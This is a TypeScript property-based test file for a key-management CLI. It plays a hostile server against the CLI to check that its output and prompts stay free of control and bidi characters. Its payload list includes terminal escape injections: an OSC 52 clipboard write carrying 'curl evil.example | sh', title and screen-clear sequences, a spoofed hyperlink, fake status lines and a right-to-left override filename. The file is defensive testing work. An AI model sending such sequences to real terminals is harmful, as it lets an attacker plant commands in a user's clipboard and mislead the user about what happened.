// tier: in-process
/**
 * docs/contract.md §C3 as a property: whatever a server puts in any field of
 * any answer (key records, the workspace, error bodies, headers, a create's
 * answer, pagination), nothing svc writes on either stream, nor any question
 * it asks, holds a control or bidi character, on a terminal or piped; piped
 * rows stay one line a key with the header's columns. Every command runs
 * in-process against a scripted transport that plays that server.
 */
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { PromptCancelledError } from '../../src/cli/errors/errors.js';
import type { Choice, Prompter } from '../../src/cli/terminal/prompt.js';
import { readKey } from '../../src/client/key-view.js';
import type { HttpResponse, Transport } from '../../src/client/transport.js';
import { keyHint } from '../../src/contract/key-format.js';
import { freshSeedNote, hostileString, SEEDS, UNSAFE_OUTPUT } from '../helpers/hostile-text.js';
import { svc, tempConfigDir } from '../helpers/in-process.js';

const FILE = 'test/invariants/server-text.test.ts';
beforeAll(() => console.info(`server text: ${freshSeedNote(FILE)}`));

const IN_USE = `sk_${'Use1'.repeat(16)}`;
const NEW_SECRET = `sk_${'New2'.repeat(16)}`;

/** Sequences a hostile server would send whole, beside the generator's arbitrary characters. */
const SEQUENCES = [
  `\x1b]52;c;${Buffer.from('curl evil.example | sh').toString('base64')}\x07`,
  '\x1b[2J\x1b[H',
  '\x1b]0;pwned\x07',
  '\x1b]2;pwned\x1b\\',
  '\x1b]8;;https://evil.example\x07click\x1b]8;;\x07',
  '\n✓ Revoked everything.',
  '\r\x1b[2K✓ Logged in',
  '\u009b31m',
  '\u202egnp.exe',
  '\u2066\u2069\u2028',
  '\tkey_victim\tprod',
];

const nasty: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: hostileString },
  { weight: 1, arbitrary: fc.constantFrom(...SEQUENCES) },
  { weight: 2, arbitrary: fc.tuple(hostileString, fc.constantFrom(...SEQUENCES), hostileString).map((parts) => parts.join('')) },
);

const time = fc.oneof(nasty, fc.constant(null), fc.constant('2026-01-02T03:04:05Z'), fc.integer({ min: 0, max: 2_000_000_000 }), fc.constant('1767225600'));

const record = fc.record({
  id: nasty,
  name: nasty,
  hint: nasty,
  status: fc.oneof(nasty, fc.constantFrom('enabled', 'disabled', 'expired')),
  enabled: fc.oneof(fc.boolean(), nasty, fc.constant(null)),
  workspaceId: nasty,
  createdAt: time,
  expiresAt: time,
  lastUsedAt: time,
  extra: fc.dictionary(nasty, nasty, { maxKeys: 2 }),
});
type KeyRecord = Record<string, unknown>;
const keyRecord: fc.Arbitrary<KeyRecord> = record.map(({ extra, ...fields }) => ({ ...extra, ...fields }));

/** Now and then: an endpoint that failed often would leave the paths after it unrun. */
const sometimes = fc.oneof({ weight: 3, arbitrary: fc.constant(false) }, { weight: 1, arbitrary: fc.constant(true) });

const ERROR_STATUSES = [301, 302, 400, 401, 403, 404, 405, 409, 413, 422, 429, 500, 502, 503];

const world = fc.record({
  keys: fc.array(keyRecord, { minLength: 1, maxLength: 3 }),
  /** The first key's hint is the key svc uses: its star, "the key svc is using", the lock-out warnings. */
  firstInUse: fc.boolean(),
  page2: fc.array(keyRecord, { maxLength: 2 }),
  paging: fc.constantFrom('none', 'cursor', 'has-more', 'next', 'link', 'hostile-link'),
  cursor: nasty,
  workspace: fc.record({ id: nasty, name: nasty, plan: nasty, requestsPerMinute: fc.oneof(fc.integer({ min: 0, max: 10_000 }), nasty) }),
  created: fc.record({ record: keyRecord, secretIn: fc.constantFrom('secret', 'key', 'nowhere') }),
  error: fc.record({
    status: fc.constantFrom(...ERROR_STATUSES),
    error: nasty,
    code: fc.oneof(nasty, fc.constant('RATE_LIMITED')),
    body: fc.constantFrom('json', 'json', 'html', 'text', 'empty'),
  }),
  headers: fc.record({
    'content-type': fc.oneof(fc.constant('application/json'), nasty),
    'retry-after': nasty,
    location: nasty,
    'ratelimit-limit': fc.oneof(nasty, fc.constant('30')),
    'ratelimit-remaining': fc.oneof(nasty, fc.constant('0')),
    'ratelimit-reset': fc.oneof(nasty, fc.constant('12')),
    'ratelimit-policy': nasty,
    date: fc.oneof(nasty, fc.constant('Fri, 02 Jan 2026 03:04:05 GMT')),
    'x-request-id': nasty,
  }),
  /** Which answers are the error instead: each endpoint fails now and then. */
  fails: fc.record({ list: sometimes, one: sometimes, workspace: sometimes, create: sometimes, delete: sometimes, patch: sometimes }),
  patchNoContent: fc.boolean(),
});
type World = typeof world extends fc.Arbitrary<infer T> ? T : never;
type Endpoint = keyof World['fails'];

/**
 * A server that puts `w`'s strings in every answer, and its headers on
 * every answer; `keyCount` is how many keys its last list read served (a
 * record on page 2 whose id page 1 already had is the same key, listed once).
 */
function hostileServer(w: World): { transport: Transport; keyCount: () => number } {
  let listed = 0;
  const keys = w.firstInUse ? [{ ...w.keys[0], hint: keyHint(IN_USE) }, ...w.keys.slice(1)] : w.keys;
  const headers = (extra: Record<string, string> = {}) => ({ ...w.headers, ...extra });
  const json = (status: number, body: unknown, extra: Record<string, string> = {}): HttpResponse => ({
    status,
    headers: headers(extra),
    text: JSON.stringify(body),
  });
  const failure = (): HttpResponse => {
    const { status, error, code, body } = w.error;
    const text =
      body === 'json' ? JSON.stringify({ error, code }) : body === 'html' ? `<html><title>${error}</title></html>` : body === 'text' ? error : '';
    return { status, headers: headers(), text };
  };
  const firstPage = () => {
    const paging: Record<string, unknown> =
      w.paging === 'cursor' ? { next_cursor: w.cursor } : w.paging === 'has-more' ? { has_more: true, page: 1 } : w.paging === 'next' ? { next: w.cursor } : {};
    const link: Record<string, string> =
      w.paging === 'link' ? { link: '</api/service/user/api-keys?page=2>; rel="next"' } : w.paging === 'hostile-link' ? { link: `<${w.cursor}>; rel="next"` } : {};
    return json(200, { keys, ...paging }, link);
  };
  const transport: Transport = async (req) => {
    const url = new URL(req.url);
    const path = url.pathname.replace(/^\/api\/service/, '');
    const { fails } = w;
    if (path === '/user/api-keys' && req.method === 'GET') {
      if (fails.list) return failure();
      if (url.search === '') {
        listed = keys.length;
        return firstPage();
      }
      const firstIds = new Set(keys.map((k) => readKey(k).id).filter((id): id is string => id !== null));
      const again = (k: unknown) => {
        const id = readKey(k).id;
        return id !== null && firstIds.has(id);
      };
      listed = keys.length + w.page2.filter((k) => !again(k)).length;
      return json(200, { keys: w.page2 });
    }
    if (path === '/workspace' && req.method === 'GET') return fails.workspace ? failure() : json(200, w.workspace);
    if (path === '/user/api-keys' && req.method === 'POST') {
      if (fails.create) return failure();
      const { record: created, secretIn } = w.created;
      return json(201, secretIn === 'nowhere' ? created : { ...created, [secretIn]: NEW_SECRET });
    }
    if (path.startsWith('/user/api-keys/')) {
      if (req.method === 'GET') return fails.one ? failure() : json(200, keys[0]);
      if (req.method === 'DELETE') return fails.delete ? failure() : json(200, { id: keys[0]!.id, revoked: true });
      if (req.method === 'PATCH') return fails.patch ? failure() : w.patchNoContent ? { status: 204, headers: headers(), text: '' } : json(200, keys[0]);
    }
    return failure();
  };
  return { transport, keyCount: () => listed };
}

/**
 * Answers whatever is asked, as someone who says yes to everything, names
 * a key "ci" and takes the first choice, but gives no key; at menus it takes
 * the next of `menus` that is offered, then Esc. Each question, choice and
 * verdict is kept as shown.
 */
function obligingPrompter(menus: string[]): Prompter & { shown: string[] } {
  const shown: string[] = [];
  const note = (message: string, choices: Choice<unknown>[] = []) => {
    shown.push(message);
    for (const c of choices) shown.push(c.name, c.description ?? '', typeof c.disabled === 'string' ? c.disabled : '');
  };
  const first = <T>(choices: Choice<T>[]): T => {
    const open = choices.find((c) => !c.disabled);
    if (!open) throw new PromptCancelledError();
    return open.value;
  };
  const answer = (message: string, value: string, validate?: (value: string) => true | string) => {
    note(message);
    const verdict = validate?.(value) ?? true;
    if (verdict !== true) {
      shown.push(verdict);
      throw new PromptCancelledError();
    }
    return value;
  };
  return {
    shown,
    text: async (message, validate) => answer(message, /name/i.test(message) ? 'ci' : '', validate),
    async secret(message) {
      note(message);
      throw new PromptCancelledError();
    },
    confirm: async (message) => (note(message), true),
    select: async (message, choices) => (note(message, choices), first(choices)),
    search: async (message, choices) => (note(message, choices), first(choices)),
    pickMany: async (message, choices) => (note(message, choices), [first(choices)]),
    pause: async (message) => void note(message),
    async menu(message, choices) {
      note(message, choices);
      while (menus.length > 0) {
        const label = menus.shift()!;
        const found = choices.find((c) => c.name.includes(label) && !c.disabled);
        if (found) return found.value;
      }
      return null;
    },
  };
}

/** What stdout holds piped: tab-separated rows (every key, or some), label<TAB>value lines, completion words, or no tabs at all. */
type Stdout = 'every-key' | 'rows' | 'record' | 'words' | 'plain';

interface Scenario {
  args: string[];
  tty?: boolean;
  stdout?: Stdout;
  /** Answers the scenario is about, whatever the world says. */
  force?: (w: World) => World;
  menus?: string[];
}

const failing = (endpoint: Endpoint, status?: number) => (w: World) => ({
  ...w,
  fails: { ...w.fails, [endpoint]: true },
  error: status === undefined ? w.error : { ...w.error, status },
});
const working = (w: World): World => ({
  ...w,
  fails: { list: false, one: false, workspace: false, create: false, delete: false, patch: false },
});

const SCENARIOS: Record<string, Scenario> = {
  'keys list, piped': { args: ['keys', 'list'], stdout: 'every-key' },
  'keys list, piped, every page read': { args: ['keys', 'list'], stdout: 'every-key', force: working },
  'keys list on a terminal': { args: ['keys', 'list'], tty: true },
  'keys list on a terminal, counting down a 429': {
    args: ['keys', 'list'],
    tty: true,
    force: (w) => ({ ...failing('list', 429)(w), error: { ...w.error, status: 429, code: 'RATE_LIMITED' }, headers: { ...w.headers, 'retry-after': '1' } }),
  },
  'keys list --json': { args: ['keys', 'list', '--json'] },
  'keys list --expiring 7d --name c, piped': { args: ['keys', 'list', '--expiring', '7d', '--name', 'c'], stdout: 'rows' },
  'keys view, piped': { args: ['keys', 'view', 'key_1'], stdout: 'record' },
  'keys view on a terminal': { args: ['keys', 'view', 'key_1'], tty: true },
  'keys view --json': { args: ['keys', 'view', 'key_1', '--json'] },
  'status on a terminal': { args: ['status'], tty: true },
  'status, piped': { args: ['status'] },
  'status --json': { args: ['status', '--json'] },
  'keys create, piped': { args: ['keys', 'create', 'ci'] },
  'keys create on a terminal, the name asked': { args: ['keys', 'create'], tty: true },
  'keys create --json': { args: ['keys', 'create', 'ci', '--json'] },
  'keys revoke --yes, answered with an error': { args: ['keys', 'revoke', 'key_1', 'key_2', '--yes'], force: failing('delete') },
  'keys revoke on a terminal, confirmed': { args: ['keys', 'revoke', 'key_1'], tty: true },
  'keys enable': { args: ['keys', 'enable', 'key_1'] },
  'keys disable on a terminal': { args: ['keys', 'disable', 'key_1'], tty: true },
  'keys rotate --yes': { args: ['keys', 'rotate', 'key_1', '--yes'] },
  'keys rotate --disable-old, the PATCH answered 500': {
    args: ['keys', 'rotate', 'key_1', '--disable-old', '--yes'],
    force: (w) => failing('patch', 500)({ ...working(w), firstInUse: false, created: { ...w.created, secretIn: 'secret' } }),
  },
  'keys rotate on a terminal': { args: ['keys', 'rotate', 'key_1'], tty: true },
  'keys prune --dry-run, piped': { args: ['keys', 'prune', '--unused-for', '1d', '--dry-run'], stdout: 'rows' },
  'keys prune --dry-run on a terminal': { args: ['keys', 'prune', '--disabled', '--dry-run'], tty: true },
  'keys ping': { args: ['keys', 'ping'] },
  'api /workspace': { args: ['api', '/workspace'] },
  'api -i on a terminal': { args: ['api', '-i', '/user/api-keys'], tty: true },
  'api -X DELETE -i, answered with an error': { args: ['api', '-X', 'DELETE', '-i', '/user/api-keys/key_1'], force: failing('delete') },
  'api creating a key': { args: ['api', '/user/api-keys', '-f', 'name=ci'], force: (w) => ({ ...w, fails: { ...w.fails, create: false } }) },
  '__complete key-ids': { args: ['__complete', 'key-ids'], stdout: 'words' },
  'the interactive manager, every action': {
    args: [],
    tty: true,
    force: (w) => ({ ...w, fails: { ...w.fails, list: false, workspace: false } }),
    menus: ['Ping', 'Create a key', 'Enable or disable', 'Revoke a key', 'Rotate a key', 'Switch profile', 'Refresh'],
  },
  'the interactive manager, the keys unread': {
    args: [],
    tty: true,
    force: failing('list'),
    menus: ['Try again', 'Switch profile'],
  },
  'keys list --verbose on a terminal': { args: ['keys', 'list', '--verbose'], tty: true },
  'status --verbose, piped': { args: ['status', '--verbose'] },
  'keys revoke --verbose --yes': { args: ['keys', 'revoke', 'key_1', '--yes', '--verbose'] },
};

/** svc's own escape sequences: chalk's colour codes, the progress line's rewind, and the manager's region cleared (back up, erase each row, back up; or, to drop a secret, the screen and the scrollback cleared whole). */
const OWN_SEQUENCES = /\x1b\[\d*(;\d+)*m|\r\x1b\[2K|\r(?:\x1b\[\d+A)?(?:\x1b\[2K\x1b\[1B)*\x1b\[2K(?:\x1b\[\d+A)?|\x1b\[H\x1b\[2J\x1b\[3J/g;

/**
 * Problems with one stream: a control or bidi character left after svc's
 * own sequences are taken out, or a line whose tabs are not the ones svc
 * puts between columns.
 */
function problems(stream: string, text: string, tabs: number): string[] {
  if (text === '') return [];
  const found: string[] = [];
  text
    .replace(OWN_SEQUENCES, '')
    .split('\n')
    .forEach((line, index) => {
      const count = line.split('\t').length - 1;
      if (count !== tabs) found.push(`${stream} line ${index + 1} has ${count} tabs, not ${tabs}: ${JSON.stringify(line)}`);
      if (UNSAFE_OUTPUT.test(line.replaceAll('\t', ''))) found.push(`${stream} line ${index + 1}: ${JSON.stringify(line)}`);
    });
  return found;
}

const config = tempConfigDir();
afterAll(() => config.remove());

async function run(name: string, scenario: Scenario, generated: World): Promise<string[]> {
  const w = scenario.force ? scenario.force(generated) : generated;
  const server = hostileServer(w);
  const prompter = obligingPrompter([...(scenario.menus ?? [])]);
  const tty = scenario.tty === true;
  const env = { SVC_BASE_URL: 'http://127.0.0.1:9', SVC_API_KEY: IN_USE, SVC_CONFIG_DIR: config.dir };
  const result = await svc([...scenario.args, '--max-wait', '2'], env, { tty, colour: tty, columns: 100, deps: { transport: server.transport, prompter } });
  const piped = tty ? 'plain' : (scenario.stdout ?? 'plain');
  const header = result.stdout.split('\n')[0]!.split('\t').length - 1;
  const stdoutTabs = { 'every-key': header, rows: header, record: 1, words: 1, plain: 0 }[piped];
  const found = [
    ...problems('stdout', result.stdout, stdoutTabs),
    ...problems('stderr', result.stderr, 0),
    ...prompter.shown.flatMap((text) => [...problems('prompt', text, 0), ...(text.includes('\n') ? [`a prompt of two lines: ${JSON.stringify(text)}`] : [])]),
  ];
  if (piped === 'every-key' && result.exitCode === 0) {
    const rows = result.stdout.split('\n').length - 1;
    if (rows !== server.keyCount()) found.push(`${rows} rows for ${server.keyCount()} keys:\n${result.stdout}`);
  }
  if (/Unexpected error/.test(result.stderr)) found.push(`a crash: ${result.stderr}`);
  return found.map((problem) => `${name} (exit ${result.exitCode}): ${problem}`);
}

describe.each(SEEDS)('server text in every field ($pass seed $seed)', ({ seed }) => {
  it.each(Object.entries(SCENARIOS))('%s', async (name, scenario) => {
    await fc.assert(
      fc.asyncProperty(world, async (w) => {
        expect(await run(name, scenario, w)).toEqual([]);
      }),
      { seed, numRuns: 40 },
    );
  });
});
